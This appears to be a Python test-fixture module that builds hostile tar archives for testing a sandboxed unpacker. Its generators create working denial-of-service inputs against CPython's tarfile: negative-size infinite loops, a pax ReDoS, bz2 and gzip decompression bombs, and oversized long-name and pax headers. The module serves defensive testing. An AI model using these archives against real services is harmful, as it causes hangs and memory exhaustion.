"""Hostile tar archives for testing a sandboxed unpacker.

Stdlib only.  Every public function returns the archive as ``bytes``; all are
built in memory in well under 2 s with small peak memory, because nothing is
ever materialised at its decompressed size:

* bz2 bombs are assembled at the *bit* level: a handful of small blocks
  (e.g. 40 MiB of zeros -> ~35 bytes) are compressed once, then their bit
  strings are repeated inside ONE bz2 stream whose combined CRC is recomputed.
  The result is a valid single-stream .bz2 (works with BZ2Decompressor, i.e.
  tarfile 'r|bz2', and with BZ2File, i.e. 'r:bz2' / 'r:*').
* gzip bombs repeat one raw-deflate chunk ended by Z_FULL_FLUSH (byte aligned,
  no back-references across chunks) and then write a correct gzip trailer.

NEVER open these with tarfile in an unprotected process: several of them hang
CPython 3.11.7's tarfile forever or make it allocate gigabytes.

``HOSTILE_ARCHIVES`` maps a name to a zero-argument generator.
"""

from __future__ import annotations

import bz2
import gzip
import lzma
import struct
import zlib
from collections.abc import Callable, Iterable

__all__ = [
    "HOSTILE_ARCHIVES",
    "bz2_bomb",
    "bz2_bomb_many",
    "gnu_longname",
    "gzip_bomb",
    "gzip_bomb_many",
    "many_files",
    "negative_size",
    "negative_size_pax",
    "pax_huge",
    "pax_redos",
    "tar_header",
]

BLOCK = 512
MiB = 1 << 20
GiB = 1 << 30


# --------------------------------------------------------------------------
# tar header helpers
# --------------------------------------------------------------------------


def _octal(n: int, width: int) -> bytes:
    """NUL-terminated octal number field of ``width`` bytes."""
    s = b"%0*o" % (width - 1, n)
    if len(s) != width - 1:
        raise ValueError(f"{n} does not fit in a {width}-byte octal field")
    return s + b"\0"


def _base256(n: int, width: int) -> bytes:
    """GNU base-256 number field (first byte 0x80 positive / 0xff negative)."""
    if n >= 0:
        return b"\x80" + n.to_bytes(width - 1, "big")
    return b"\xff" + (256 ** (width - 1) + n).to_bytes(width - 1, "big")


def tar_header(
    name: bytes | str,
    size: int = 0,
    typeflag: bytes = b"0",
    *,
    size_field: bytes | None = None,
    mode: int = 0o644,
    mtime: int = 0,
) -> bytes:
    """Return one 512-byte ustar header with a correct checksum.

    ``size_field`` (12 bytes) overrides the encoded ``size`` verbatim, which is
    how the negative base-256 size is injected.
    """
    if isinstance(name, str):
        name = name.encode()
    if len(name) > 100:
        raise ValueError("name too long for a plain ustar header")
    h = bytearray(BLOCK)
    h[0 : len(name)] = name
    h[100:108] = _octal(mode, 8)
    h[108:116] = _octal(0, 8)
    h[116:124] = _octal(0, 8)
    h[124:136] = size_field if size_field is not None else _octal(size, 12)
    h[136:148] = _octal(mtime, 12)
    h[148:156] = b" " * 8
    h[156:157] = typeflag
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    h[265:269] = b"root"
    h[297:301] = b"root"
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


def _pad(n: int) -> int:
    """Bytes of padding after ``n`` data bytes to reach a 512 boundary."""
    return -n % BLOCK


EOF_MARKER = bytes(2 * BLOCK)


# --------------------------------------------------------------------------
# bz2 bit-level stream builder
# --------------------------------------------------------------------------

_BZ_BLOCK_MAGIC = 0x314159265359
_BZ_EOS_MAGIC = 0x177245385090


class _Bits:
    """Append-only big-endian bit string backed by a list of (int, nbits)."""

    def __init__(self) -> None:
        self.parts: list[tuple[int, int]] = []

    def add(self, value: int, nbits: int) -> None:
        self.parts.append((value, nbits))

    def to_bytes(self) -> bytes:
        # Merge pairwise (balanced) to stay O(n log n) instead of O(n^2).
        parts = self.parts
        while len(parts) > 1:
            merged = []
            for i in range(0, len(parts) - 1, 2):
                (a, na), (b, nb) = parts[i], parts[i + 1]
                merged.append(((a << nb) | b, na + nb))
            if len(parts) % 2:
                merged.append(parts[-1])
            parts = merged
        value, nbits = parts[0] if parts else (0, 0)
        pad = -nbits % 8
        return (value << pad).to_bytes((nbits + pad) // 8, "big")


_BZ_CACHE: dict[bytes, tuple[int, int, int]] = {}


def _bz2_one_block(data: bytes) -> tuple[int, int, int]:
    """Compress ``data`` as exactly one bz2 block.

    Returns (block_bits_as_int, nbits, block_crc).  The block bits start with
    the 48-bit block magic and end right before the end-of-stream magic.
    """
    key = (
        data
        if len(data) <= 4096
        else (len(data).to_bytes(8, "big") + zlib.crc32(data).to_bytes(4, "big") + data[:64] + data[-64:])
    )
    hit = _BZ_CACHE.get(key)
    if hit is not None:
        return hit
    comp = bz2.compress(data, 9)
    assert comp[:4] == b"BZh9"
    total = len(comp) * 8
    v = int.from_bytes(comp, "big")
    for pad in range(8):
        eos_end = total - pad  # bit index after the CRC
        eos_start = eos_end - 80
        if v & ((1 << pad) - 1):
            continue
        magic = (v >> (total - eos_start - 48)) & ((1 << 48) - 1)
        if magic != _BZ_EOS_MAGIC:
            continue
        stream_crc = (v >> pad) & 0xFFFFFFFF
        nbits = eos_start - 32
        block = (v >> (total - eos_start)) & ((1 << nbits) - 1)
        bmagic = block >> (nbits - 48)
        bcrc = (block >> (nbits - 80)) & 0xFFFFFFFF
        if bmagic != _BZ_BLOCK_MAGIC or bcrc != stream_crc:
            # Either not found, or the input needed more than one block.
            raise ValueError("input did not compress to exactly one bz2 block")
        res = (block, nbits, bcrc)
        _BZ_CACHE[key] = res
        return res
    raise ValueError("could not locate bz2 end-of-stream marker")


def _bz2_stream(blocks: Iterable[tuple[bytes, int]]) -> bytes:
    """Build ONE bz2 stream from ``(block_input, repeat_count)`` pairs.

    Each distinct ``block_input`` is compressed once (must fit one 900k bz2
    block: ~45 MB of a single repeated byte, far less for varied data).
    """
    blocks = list(blocks)  # keep objects alive: id() cache below
    by_id: dict[int, tuple[int, int, int]] = {}
    out = _Bits()
    out.add(int.from_bytes(b"BZh9", "big"), 32)
    combined = 0
    for data, count in blocks:
        hit = by_id.get(id(data))
        if hit is None:
            hit = by_id[id(data)] = _bz2_one_block(data)
        bits, nbits, crc = hit
        for _ in range(count):
            out.add(bits, nbits)
            combined = (((combined << 1) | (combined >> 31)) & 0xFFFFFFFF) ^ crc
    out.add(_BZ_EOS_MAGIC, 48)
    out.add(combined, 32)
    return out.to_bytes()


# --------------------------------------------------------------------------
# gzip builder with repeated deflate chunks
# --------------------------------------------------------------------------


def _deflate_chunk(data: bytes) -> bytes:
    """Raw deflate of ``data``, non-final, byte aligned, self-contained."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
    return co.compress(data) + co.flush(zlib.Z_FULL_FLUSH)


def _crc32_repeat(data: bytes, count: int, crc: int) -> int:
    for _ in range(count):
        crc = zlib.crc32(data, crc)
    return crc


def _gzip_stream(chunks: Iterable[tuple[bytes, int]]) -> bytes:
    """One gzip member made of ``(chunk_input, repeat_count)`` pairs."""
    out = [b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"]  # no name, mtime 0
    crc = 0
    size = 0
    cache: dict[int, bytes] = {}
    chunks = list(chunks)  # keep objects alive: id() cache below
    for data, count in chunks:
        c = cache.get(id(data))
        if c is None:
            c = cache[id(data)] = _deflate_chunk(data)
        out.append(c * count)
        crc = _crc32_repeat(data, count, crc)
        size += len(data) * count
    out.append(b"\x03\x00")  # empty final fixed block
    out.append(struct.pack("<II", crc, size & 0xFFFFFFFF))
    return b"".join(out)


# --------------------------------------------------------------------------
# 1. negative size  (CVE-2025-8194)
# --------------------------------------------------------------------------


def negative_size() -> bytes:
    """Gzip tar whose 2nd header has size -512 (GNU base-256 field).

    tarfile computes next_offset = offset_data + _block(-512) = this header's
    own offset (512), so TarFile.next() re-reads the same header forever and
    appends a new TarInfo each time (random access modes: infinite loop with
    slowly growing memory; with 'r:gz' every backwards seek also re-inflates
    the stream from the start).  In stream mode ('r|*') the backwards seek
    raises StreamError instead.  The first member must exist because
    TarFile.next() treats a target offset of 0 as "end of archive".
    """
    tar = tar_header("ok.txt", 0) + tar_header("loop.txt", size_field=_base256(-BLOCK, 12)) + EOF_MARKER
    return gzip.compress(tar, 9, mtime=0)


def negative_size_pax() -> bytes:
    """Same loop, but the negative size comes from a pax ``size=-1536`` record.

    Layout: ok.txt @0, pax 'x' header @512 (body @1024), loop.txt @1536 (data
    would start @2048).  tarfile applies the pax "size" with int() (no sign
    check) and sets tarfile.offset = 2048 + _block(-1536) = 512, i.e. back
    onto the pax header -> infinite loop.  The plain ustar size field is 0,
    so a check of the 12-byte size fields alone does not catch it.
    """
    rec_body = b" size=-1536\n"
    n = len(rec_body)
    n += len(str(n + len(str(n))))
    rec = str(n).encode() + rec_body
    assert len(rec) == n
    tar = (
        tar_header("ok.txt", 0)
        + tar_header("PaxHeader/loop", len(rec), b"x")
        + rec
        + bytes(_pad(len(rec)))
        + tar_header("loop.txt", 0)
        + EOF_MARKER
    )
    return gzip.compress(tar, 9, mtime=0)


# --------------------------------------------------------------------------
# 2. pax ReDoS  (CVE-2024-6232)
# --------------------------------------------------------------------------


def pax_redos(digits: int = 160_000) -> bytes:
    """Gzip tar with a pax 'x' header whose body is ``digits`` ASCII '1's.

    tarfile runs re.search(rb"\\d+ hdrcharset=([^\\n]+)\\n", buf) over the pax
    body: from every start position \\d+ swallows the rest of the digit run
    and then backtracks -> O(n^2) (super-linear in practice).  80k digits
    compress to a few hundred bytes.
    """
    body = b"1" * digits
    tar = (
        tar_header("PaxHeader/redos", len(body), b"x")
        + body
        + bytes(_pad(len(body)))
        + tar_header("victim.txt", 0)
        + EOF_MARKER
    )
    return gzip.compress(tar, 9, mtime=0)


# --------------------------------------------------------------------------
# 3. bz2 bombs
# --------------------------------------------------------------------------

_BZ_ZERO_CHUNK = 40 * MiB  # one bz2 block of zeros -> ~35 bytes of bits


def bz2_bomb(total: int = 8 * GiB, chunk: int = _BZ_ZERO_CHUNK) -> bytes:
    """Single-stream .tar.bz2: one member declaring ~``total`` bytes of zeros.

    Decompressed stream = header + total bytes of zeros (the last 1024 of
    which double as the end-of-archive marker).  ~8 GiB in ~7 KB.
    """
    n = max(1, total // chunk)
    data_zeros = n * chunk
    size = data_zeros - len(EOF_MARKER)
    return _bz2_stream([(tar_header("zeros.bin", size), 1), (bytes(chunk), n)])


def bz2_bomb_many(members: int = 100, member_size: int = 100 * MiB, chunk: int = 25 * MiB) -> bytes:
    """Single-stream .tar.bz2 with many members, each of modest declared size.

    Defeats a per-member size check: 100 x 100 MiB = ~9.8 GiB total from a
    few KB.  ``member_size`` must be a multiple of ``chunk``.
    """
    if member_size % chunk or chunk % BLOCK:
        raise ValueError("member_size must be a multiple of chunk (512-aligned)")
    per = member_size // chunk
    zeros = bytes(chunk)  # one object, compressed once
    blocks: list[tuple[bytes, int]] = []
    for i in range(members):
        blocks.append((tar_header(f"part{i:05d}.bin", member_size), 1))
        blocks.append((zeros, per))
    blocks.append((EOF_MARKER, 1))
    return _bz2_stream(blocks)


# --------------------------------------------------------------------------
# 4. gzip bombs
# --------------------------------------------------------------------------

_GZ_ZERO_CHUNK = 16 * MiB


def gzip_bomb(total: int = 1 * GiB, chunk: int = _GZ_ZERO_CHUNK) -> bytes:
    """.tar.gz: one member of ~``total`` zero bytes (~1030x, ~1 MB payload)."""
    n = max(1, total // chunk)
    size = n * chunk - len(EOF_MARKER)
    return _gzip_stream([(tar_header("zeros.bin", size), 1), (bytes(chunk), n)])


def gzip_bomb_many(members: int = 16, member_size: int = 64 * MiB, chunk: int = _GZ_ZERO_CHUNK) -> bytes:
    """.tar.gz with ``members`` members of ``member_size`` zeros each (1 GiB)."""
    if member_size % chunk:
        raise ValueError("member_size must be a multiple of chunk")
    per = member_size // chunk
    zeros = bytes(chunk)
    chunks: list[tuple[bytes, int]] = []
    for i in range(members):
        chunks.append((tar_header(f"part{i:05d}.bin", member_size), 1))
        chunks.append((zeros, per))
    chunks.append((EOF_MARKER, 1))
    return _gzip_stream(chunks)


# --------------------------------------------------------------------------
# 5. GNU long name
# --------------------------------------------------------------------------


def gnu_longname(name_size: int = 4 * GiB, chunk: int = 32 * MiB, fill: bytes = b"A") -> bytes:
    """.tar.bz2 whose first header is a GNU 'L' (long name) of ``name_size``.

    tarfile's _proc_gnulong() does fileobj.read(_block(size)) -- the whole
    name in one bytes object, in every mode, before any member is returned
    (i.e. already inside tarfile.open()).  Followed by a normal empty member.
    """
    if name_size % chunk or chunk % BLOCK:
        raise ValueError("name_size must be a multiple of chunk (512-aligned)")
    return _bz2_stream(
        [
            (tar_header("././@LongLink", name_size, b"L"), 1),
            (fill * chunk, name_size // chunk),
            (tar_header("short.txt", 0) + EOF_MARKER, 1),
        ]
    )


# --------------------------------------------------------------------------
# 6. huge pax header
# --------------------------------------------------------------------------


def pax_huge(approx_size: int = 1536 * MiB, chunk: int = 32 * MiB, fill: bytes = b"A") -> bytes:
    """.tar.bz2 with a pax 'x' header of ~``approx_size`` bytes.

    The body is ONE syntactically valid record "<len> comment=AAAA...\\n".
    tarfile reads it whole, regex-scans it, slices the value (copy) and
    decodes it (another copy): ~3x the size in RAM.
    """
    k = max(1, approx_size // chunk)
    tail_fill = 100
    # Record length must include its own decimal length field.
    rest = len(b" comment=") + k * chunk + tail_fill + 1
    length = rest + len(str(rest))
    if len(str(length)) != len(str(rest)):
        length = rest + len(str(length))
    prefix = b"%d comment=" % length
    assert len(prefix) + k * chunk + tail_fill + 1 == length
    tail = fill * tail_fill + b"\n"
    tail += bytes(_pad(length)) + tar_header("victim.txt", 0) + EOF_MARKER
    return _bz2_stream(
        [
            (tar_header("PaxHeader/huge", length, b"x") + prefix, 1),
            (fill * chunk, k),
            (tail, 1),
        ]
    )


# --------------------------------------------------------------------------
# 7. many files
# --------------------------------------------------------------------------


def many_files(count: int = 200_000, compression: str = "xz") -> bytes:
    """Tar of ``count`` empty regular files f0000000..., xz (default) or gz.

    ~100 MB of headers; xz preset 0 -> ~0.3 MB in < 1 s.  ('gz' -> ~1.9 MB.)
    """
    tmpl = bytearray(tar_header("", 0))
    tmpl[148:156] = b" " * 8
    base = sum(tmpl)
    # Split the template around the 8-char name and the checksum field.
    head_tail = bytes(tmpl[8:148])  # after the name, up to chksum
    after_ck = bytes(tmpl[156:])
    comp: lzma.LZMACompressor | zlib._Compress | None
    if compression == "xz":
        comp = lzma.LZMACompressor(format=lzma.FORMAT_XZ, preset=0)
    elif compression == "gz":
        comp = zlib.compressobj(1, zlib.DEFLATED, 31)  # gzip wrapper
    elif compression == "tar":
        comp = None
    else:
        raise ValueError(compression)
    out = []
    batch = 8192  # headers per batch -> ~4 MB buffers
    for start in range(0, count, batch):
        parts = []
        for i in range(start, min(count, start + batch)):
            name = b"f%07d" % i
            parts.append(name + head_tail + b"%06o\0 " % (base + sum(name)) + after_ck)
        raw = b"".join(parts)
        out.append(comp.compress(raw) if comp else raw)
    out.append(comp.compress(EOF_MARKER) + comp.flush() if comp else EOF_MARKER)
    return b"".join(out)


HOSTILE_ARCHIVES: dict[str, Callable[[], bytes]] = {
    "negative-size": negative_size,
    "negative-size-pax": negative_size_pax,
    "pax-redos": pax_redos,
    "bz2-bomb": bz2_bomb,
    "bz2-bomb-many": bz2_bomb_many,
    "gzip-bomb": gzip_bomb,
    "gzip-bomb-many": gzip_bomb_many,
    "gnu-longname": gnu_longname,
    "pax-huge": pax_huge,
    "many-files": many_files,
}
